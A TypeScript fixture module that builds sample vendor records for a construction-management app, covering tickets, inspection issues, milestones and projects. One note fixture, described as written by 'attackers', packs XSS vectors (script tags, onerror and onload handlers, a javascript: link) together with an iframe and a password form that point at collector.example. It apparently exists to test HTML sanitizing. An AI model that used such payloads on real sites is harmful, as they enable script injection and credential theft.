import { parseRecordId } from '../../shared/model/ids.ts';
import type { RecordDetail, RecordPerson, RecordRow } from '../../shared/model/record.ts';
import { GALLERY_NOW } from './sample-audits.ts';

const ago = (minutes: number): string => new Date(GALLERY_NOW - minutes * 60_000).toISOString();
/** A moment as MySQL writes it, in UTC. */
const plain = (iso: string | null): string | null => iso && iso.slice(0, 19).replace('T', ' ');

type Parts = Readonly<Record<string, unknown>>;

/** Notes as people, editors and attackers write them. */
const NOTES = [
  {
    id: 1,
    ticket_id: 482,
    text: '<p>Opened the <b>membrane</b> at grid C4: water below it. Options:</p><ul><li>cut and patch</li><li>lay anew from C3 to C5</li></ul><p>Data sheet at <a href="https://app.smartq.example/sheets/12">the supplier</a>.</p>',
    private: 0,
    owner_id: 31,
    insert_time: plain(ago(3200)),
    files: [{ id: 91, note_id: 1, name: 'membrane-C4.jpg', size: 2_913_000 }],
  },
  {
    id: 2,
    ticket_id: 482,
    text: '<h3>Reply</h3><p onclick="globalThis.hostile=1">Patch first.</p><script>globalThis.hostile=2</script><img src="x" onerror="globalThis.hostile=3"><svg onload="globalThis.hostile=4"></svg><a href="javascript:globalThis.hostile=5">Open the drawing</a> <iframe src="https://collector.example/"></iframe><style>*{display:none}</style><form action="https://collector.example"><input name="password">Sign in</form>',
    private: 1,
    owner_id: 32,
    insert_time: plain(ago(1400)),
  },
  {
    id: 3,
    ticket_id: 482,
    text: 'Scaffold is up until Friday.\nTwo people are enough.',
    private: 0,
    owner_id: 99,
    insert_time: plain(ago(200)),
    mood: 'hurried',
  },
];

const STEPS = [
  { id: 71, name: 'Reported', limit: null, pos: 1 },
  { id: 72, name: 'Triage', limit: 6, pos: 2 },
  { id: 73, name: 'In work', limit: 5, pos: 3 },
  { id: 74, name: 'Closed', limit: null, pos: 4 },
];

const FIELDS = [
  {
    name: 'f1',
    label: 'Trade',
    type: 'choice',
    values: [
      { id: 5, title: 'Roofing' },
      { id: 6, title: 'Hydraulic' },
    ],
  },
  { name: 'f2', label: 'Cost estimate', type: 'float', values: [] },
  { name: 'f3', label: 'Location on the drawing', type: 'string', values: [] },
];

const steps: Readonly<Record<string, number>> = { open: 71, 'in-progress': 73, closed: 74 };

const ticketParts = (row: RecordRow): Parts => ({
  list: {
    id: Number(row.number),
    project_id: 7,
    name: row.title,
    description: 'Blisters of up to 40 cm above the plant room.\nThey grow in the sun.',
    step_id: steps[row.status ?? 'open'],
    tags: 'roof, warranty',
    required_by: row.dueAt?.slice(0, 10) ?? null,
    custom_fields: { f1: 5, f2: 1250.5, f3: 'C4', f9: 'kept by nobody' },
    assigned_to: row.assignees === null ? [] : [{ id: 31, name: row.assignees }],
    owner_id: 33,
    insert_time: plain(row.createdAt),
    update_time: plain(row.updatedAt),
    weather: null,
  },
  notes: row.number === '482' ? { items: NOTES } : { items: [] },
});

const conqaIssue = (row: RecordRow): Parts => ({
  list: {
    issueId: 'issue-0',
    projectId: 'project-0',
    assignedTo: 'user-77',
    checklistId: 'cl:12',
    description: 'No collar at the riser, level 4.\nSeen from below through the open ceiling.',
    dueDate: row.dueAt,
    issueNumber: row.number,
    lastUpdatedAt: row.updatedAt,
    raisedAt: row.createdAt,
    raisedBy: 'user-1',
    raisedByName: 'Hana Petersen',
    responsiblePerson: 'user-2',
    responsiblePersonName: 'Dan Whitlock',
    status: row.status,
    title: row.title,
    daysAtStatus: 12,
    ballInCourtUser: 'user-3',
    ballInCourtUserName: 'Priya Raman',
    numberOfAttachments: 3,
    riskScore: { likelihood: 3, consequence: 'major' },
  },
});

const milestone = (row: RecordRow): Parts => ({
  list: {
    milestoneId: 'ms:1',
    projectId: 'project-0',
    externalId: row.number,
    name: row.title,
    status: {
      value: row.status,
      display: 'Open for inspection',
      lastUpdatedAt: row.updatedAt,
      lastUpdatedBy: 'hana@kauri.example',
    },
    fields: { level: { value: 'l4', display: 'Level 4' }, holdPoint: { value: true, display: 'Yes' } },
    checklistId: 'cl:12',
    measurements: {
      timeToSubmitted: { days: 6, threshold: 'on-time' },
      timeToApproved: { days: 31, threshold: 'overdue' },
      timeToClosed: { days: 2, threshold: 'held' },
    },
  },
});

const connectNowIssue = (row: RecordRow): Parts => ({
  list: {
    id: Number(row.number),
    name: row.title,
    severity: row.priority,
    closed_at: row.status === 'closed' ? ago(600) : null,
    created_at: row.createdAt,
    updated_at: row.updatedAt,
    categories: [
      { id: 4, name: 'Lifts', company: { id: 2, name: 'Civic Campus East' } },
      { id: 5, name: 'Access', company: { id: 3, name: 'Otis Ward' } },
    ],
    events: [
      { id: 9, description: 'Engineer called, on site at 14:00.', created_at: ago(4000) },
      { id: 8, description: 'Reported by reception.', created_at: ago(4400) },
      { id: 10, message: 'Part on order.', created_at: ago(900), channel: 'sms' },
    ],
    reporter: 'reception@civic.example',
  },
});

const aconexProject = (row: RecordRow): Parts => ({
  list: {
    Hidden: 'false',
    DisconnectionStatus: row.status === 'disconnected' ? 'PROJECT DISCONNECTED' : 'NONE',
    Active: 'true',
    CreationDate: row.createdAt,
    StartDate: row.createdAt,
    StopDate: row.dueAt,
    ProjectId: parseRecordId(row.id)?.vendorId,
    ProjectName: row.title,
    ProjectCode: row.number,
    ProjectShortName: 'Station',
    ProjectType: 'Rail',
    ProjectValue: '184000000.00',
    ProjectDescription: 'Cut and cover station box with two entrances.',
    ProjectOwnerOrganizationId: '1879048200',
    ProjectOwnerOrganizationName: 'Harbour Line Authority',
    ProjectOwnerOrganizationTradingName: 'Harbour Line',
    ProjectAddressLine: '1 Quay Street',
    ProjectCity: 'Auckland',
    ProjectCountry: 'New Zealand',
    ProjectPostcode: '1010',
    PhoneNumber: '+64 9 555 0100',
    ProjectResponsibilities: {
      ProjectResponsibility: [
        { Role: 'Engineer', Responsibility: 'Ridgeline Engineers' },
        { Role: 'Main contractor', Responsibility: 'Kauri Construction Group' },
      ],
    },
  },
});

const makers: Readonly<Record<string, (row: RecordRow) => Parts>> = {
  'smartq ticket': ticketParts,
  'smartq project': (row) => ({
    list: { id: 7, name: row.title, description: 'All rooms of the east wing.', owner_id: 33 },
    steps: { items: STEPS },
    fields: { items: FIELDS },
  }),
  'conqa issue': conqaIssue,
  'conqa milestone': milestone,
  'conqa project': (row) => ({ list: { projectId: parseRecordId(row.id)?.vendorId, projectName: row.title } }),
  'connectnow issue': connectNowIssue,
  'aconex project': aconexProject,
};

const conqaPeople: readonly RecordPerson[] = [
  { name: 'Dan Whitlock', role: 'assignee', vendorId: 'user-2', email: null },
  { name: 'Priya Raman', role: 'ball-in-court', vendorId: 'user-3', email: null },
  { name: 'Hana Petersen', role: 'author', vendorId: 'user-1', email: null },
];

function peopleOf({ vendor, kind, assignees }: RecordRow): readonly RecordPerson[] {
  if (vendor === 'conqa' && kind === 'issue') return conqaPeople;
  return assignees === null ? [] : [{ name: assignees, role: 'assignee', vendorId: '31', email: null }];
}

/** A record opened, with the vendor's own data as it would have come. */
export function sampleDetail(record: RecordRow): RecordDetail {
  const parts = makers[`${record.vendor} ${record.kind}`]?.(record) ?? {};
  return {
    record,
    people: peopleOf(record),
    parts: Object.fromEntries(Object.entries(parts).map(([name, raw]) => [name, { raw, readAt: ago(4) }])),
  };
}
